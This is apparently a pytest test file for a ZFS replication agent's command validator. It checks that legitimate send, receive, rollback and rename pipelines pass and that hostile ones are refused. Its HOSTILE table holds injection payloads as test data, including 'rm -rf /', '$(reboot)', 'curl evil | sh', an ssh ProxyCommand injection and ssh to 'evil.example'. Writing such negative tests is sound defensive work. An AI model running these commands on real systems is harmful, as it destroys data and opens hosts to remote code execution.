"""agent/validate.py: what the witness can legitimately ask is accepted; nothing else is."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from typing import Any

import pytest

from tests.agent.conftest import SYSTEM_ID, action
from zfs_sync.agent.config import AgentConfig
from zfs_sync.agent.validate import Refused, vet
from zfs_sync.domain import commands as witness_commands


def test_witness_built_pipelines_are_accepted(config: AgentConfig) -> None:
    """Pipelines made by the witness's own builder (domain/commands.py) pass the vetting."""
    source = witness_commands.Host("/usr/sbin/zfs", "src.example", "zfs", 2222)
    target = witness_commands.Host("zfs")
    transfer = witness_commands.Transfer(
        "tank/my data", "backup/my data", "b", "a", True, "a",
        witness_commands.SendOptions(compressed=True, resumable=True),
    )
    built = witness_commands.transfer_commands(source, target, transfer)
    raw = action(1, incremental_base="a", snapshot_name="b", rollback_to_base=True,
                 source_dataset="tank/my data", target_dataset="backup/my data",
                 source_ssh_hostname="src.example", source_ssh_port=2222,
                 pipeline=[list(stage) for stage in built.pipeline])
    vetted = vet(raw, config, "zfs")
    assert vetted.rollback_to == "a" and vetted.source is not None
    assert vetted.send_flags == ("-c",) and vetted.receive_flags == ("-u", "-s")
    assert vetted.source_zfs == "/usr/sbin/zfs" and vetted.include_intermediate


def test_full_and_rollback_and_rename_actions(config: AgentConfig) -> None:
    assert vet(action(1, snapshot_name="a"), config, "zfs").action_type == "full_send"
    rollback = action(1, action_type="rollback", snapshot_name="b",
                      pipeline=[["zfs", "rollback", "-r", "backup/data@b"]])
    assert vet(rollback, config, "zfs").rollback_to == "b"
    rename = action(1, action_type="rename",
                    pipeline=[["zfs", "rename", "backup/data", "backup/data.zfs-sync-20261126"]])
    assert vet(rename, config, "zfs").rename_to == "backup/data.zfs-sync-20261126"


def _stage(index: int, value: list[str]) -> Callable[[dict[str, Any]], None]:
    def change(raw: dict[str, Any]) -> None:
        raw["pipeline"][index] = value
    return change


def _remote(command: str) -> Callable[[dict[str, Any]], None]:
    def change(raw: dict[str, Any]) -> None:
        raw["pipeline"][0][-1] = command
    return change


def _set(**values: Any) -> Callable[[dict[str, Any]], None]:
    def change(raw: dict[str, Any]) -> None:
        raw.update(values)
    return change


# Each entry bypasses the API's validation, as a compromised or buggy witness could.
HOSTILE: dict[str, Callable[[dict[str, Any]], None]] = {
    "shell in the remote command": _remote("zfs send tank/data@c; rm -rf /"),
    "command substitution": _remote("zfs send tank/data@$(reboot)"),
    "backticks": _remote("zfs send `id` tank/data@c"),
    "pipe in the remote command": _remote("zfs send tank/data@c | sh"),
    "other remote program": _remote("rm -rf /tank"),
    "remote zfs destroy": _remote("zfs destroy -r tank/data"),
    "remote send of another dataset": _remote("zfs send tank/secret@c"),
    "remote send with -R": _remote("zfs send -R tank/data@c"),
    "remote zfs path is a shell": _remote("/bin/sh -c id send tank/data@c"),
    "unbalanced quote": _remote("zfs send 'tank/data@c"),
    "receive -F": _stage(1, ["zfs", "receive", "-F", "backup/data"]),
    "receive -o": _stage(1, ["zfs", "receive", "-o", "mountpoint=/etc", "backup/data"]),
    "receive into another dataset": _stage(1, ["zfs", "receive", "-u", "backup/other"]),
    "local shell": _stage(1, ["sh", "-c", "zfs receive backup/data"]),
    "bash pipeline": _stage(1, ["bash", "-c", "curl evil | sh"]),
    "destroy stage": _stage(1, ["zfs", "destroy", "-r", "backup"]),
    "ssh option injection": _stage(0, ["ssh", "-oProxyCommand=sh -c id", "-n", "-o",
                                       "BatchMode=yes", "-p", "22", "zfs@source.example",
                                       "zfs send tank/data@c"]),
    "ssh to another host": _stage(0, ["ssh", "-n", "-o", "BatchMode=yes", "-p", "22",
                                      "zfs@evil.example", "zfs send tank/data@c"]),
    "hostname with shell": _set(source_ssh_hostname="src;id"),
    "hostname as option": _set(source_ssh_hostname="-oProxyCommand=id"),
    "user with shell": _set(source_ssh_user="$(id)"),
    "dataset with semicolon": _set(target_dataset="backup/data;rm -rf /"),
    "dataset with newline": _set(target_dataset="backup/data\nrm"),
    "dataset as option": _set(target_dataset="-F"),
    "dataset outside the filter": _set(target_dataset="tank/data"),
    "snapshot with dollar": _set(snapshot_name="c$(id)"),
    "snapshot as option": _set(snapshot_name="-r"),
    "another system's action": _set(target_system_id="someone-else"),
    "unknown action type": _set(action_type="destroy"),
    "full send with a base": _set(incremental_base="a"),
    "rollback -r in a transfer": _set(rollback_to_base=True, incremental_base="a",
                                      action_type="incremental_send",
                                      pipeline=[["zfs", "rollback", "-r", "backup/data@a"],
                                                ["ssh", "-n", "-o", "BatchMode=yes", "-p",
                                                 "22", "zfs@source.example",
                                                 "zfs send -I tank/data@a tank/data@c"],
                                                ["zfs", "receive", "-u", "backup/data"]]),
    "pipeline is a string": _set(pipeline="zfs send | zfs receive"),
    "too many stages": _set(pipeline=[["zfs", "receive", "backup/data"]] * 4),
    "id with shell": _set(action_id="x; rm -rf /"),
    "port as text": _set(source_ssh_port="22; id"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_actions_are_refused(name: str, config: AgentConfig) -> None:
    raw = action(1, snapshot_name="c")
    HOSTILE[name](raw)
    with pytest.raises(Refused) as info:
        vet(raw, config, "zfs")
    assert str(info.value)  # a readable sentence for the error report


def test_destructive_rollback_needs_the_rollback_action_and_the_host(tmp_path: Any,
                                                                    config: AgentConfig) -> None:
    from tests.agent.conftest import make_config

    rollback = action(1, action_type="rollback", snapshot_name="b",
                      pipeline=[["zfs", "rollback", "-r", "backup/data@b"]])
    with pytest.raises(Refused, match="allow_rollback"):
        vet(rollback, make_config(tmp_path, allow_rollback=False), "zfs")
    for stage in (["zfs", "rollback", "-R", "backup/data@b"],
                  ["zfs", "rollback", "-r", "backup/other@b"],
                  ["zfs", "rollback", "-rf", "backup/data@b"]):
        with pytest.raises(Refused):
            vet({**rollback, "pipeline": [stage]}, config, "zfs")


def test_rename_only_moves_aside_in_place(config: AgentConfig) -> None:
    for new in ("backup/elsewhere", "other/data.zfs-sync-20261126", "backup/data2",
                "backup/data.zfs-sync-x; rm"):
        raw = action(1, action_type="rename", pipeline=[["zfs", "rename", "backup/data", new]])
        with pytest.raises(Refused):
            vet(raw, config, "zfs")


def test_wrong_zfs_path_is_refused(config: AgentConfig) -> None:
    with pytest.raises(Refused, match="this host's zfs"):
        vet(action(1), config, "/usr/local/sbin/zfs")


def test_the_agent_runs_its_own_argv_not_the_witness_strings(config: AgentConfig) -> None:
    """Quoting differences are harmless: the vetted parts, not the string, are executed."""
    raw = action(1, snapshot_name="c")
    raw["pipeline"][0][-1] = shlex.join(["zfs", "send", "tank/data@c"])
    assert vet(raw, config, "zfs").target_dataset == "backup/data"
    assert config.system_id == SYSTEM_ID
